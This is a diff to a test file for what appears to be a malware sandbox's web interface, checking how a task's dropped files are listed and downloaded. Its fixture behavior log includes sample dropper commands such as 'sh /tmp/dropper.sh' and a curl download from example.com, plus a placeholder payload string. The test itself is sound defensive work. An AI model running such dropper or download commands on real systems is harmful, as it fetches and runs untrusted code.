@@ -5,6 +5,7 @@
 // API URLs for images and downloads, and the actions.
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
 import { mkdirSync, writeFileSync } from 'node:fs'
+import { createHash } from 'node:crypto'
 import path from 'node:path'
 import sharp from 'sharp'
 import { ZipFile } from 'yazl'
@@ -49,7 +50,10 @@ beforeAll(async () => {
     'logs/behavior.jsonl': [
       { type: 'analyzer', version: 1, package: 'sh', task: id, time: now },
       { type: 'process', pid: 10, ppid: 1, command_line: 'sh /tmp/dropper.sh', exe: '/bin/sh', first_seen: now, exited: now + 5 },
-      { type: 'process', pid: 11, ppid: 10, command_line: 'curl http://example.com/x -o /tmp/x', exe: '/usr/bin/curl', first_seen: now + 1, exited: now + 3 }
+      { type: 'process', pid: 11, ppid: 10, command_line: 'curl http://example.com/x -o /tmp/x', exe: '/usr/bin/curl', first_seen: now + 1, exited: now + 3 },
+      // The same bytes written to a second path: the analyzer uploads them once (dropped.ts).
+      { type: 'file', op: 'created', path: '/tmp/x', time: now + 2, pid: 11, sha256: createHash('sha256').update('MZ dropped payload').digest('hex') },
+      { type: 'file', op: 'created', path: '/var/tmp/copy-of-x', time: now + 3, pid: 10, sha256: createHash('sha256').update('MZ dropped payload').digest('hex') }
     ].map((e) => JSON.stringify(e)).join('\n') + '\n',
     'files/0123456789abcdef_x': 'MZ dropped payload',
     'files.json': JSON.stringify({ path: 'files/0123456789abcdef_x', filepath: '/tmp/x', pids: [11] }) + '\n',
@@ -94,6 +98,15 @@ describe('Task page', () => {
 
     await user.click(screen.getByRole('tab', { name: 'Dropped' }))
     expect(screen.getByText('/tmp/x')).toBeTruthy()
+    // Dropped at two paths: listed twice, each with its path, and each downloadable alone.
+    const table = screen.getByRole('table', { name: 'dropped files' })
+    const rows = within(table).getAllByRole('row').slice(1)
+    expect(rows.map((r) => within(r).getAllByRole('cell')[1]?.textContent)).toEqual(['/tmp/x', '/var/tmp/copy-of-x'])
+    const links = within(table).getAllByRole('link', { name: 'x' })
+    expect(links.map((a) => a.getAttribute('href'))).toEqual([1, 2].map(() => `${h.url}/aviary/tasks/${id}/dropped/files/0123456789abcdef_x`))
+    const one = await fetch(links[0]!.getAttribute('href') as string)
+    expect(await one.text()).toBe('MZ dropped payload')
+    expect(one.headers.get('content-disposition')).toBe(`attachment; filename="${id}-x.bin"`)
     expect(screen.getByRole('link', { name: /every dropped file/ }).getAttribute('href')).toBe(`${h.url}/tasks/report/${id}/dropped`)
 
     await user.click(screen.getByRole('tab', { name: 'Screenshots' }))
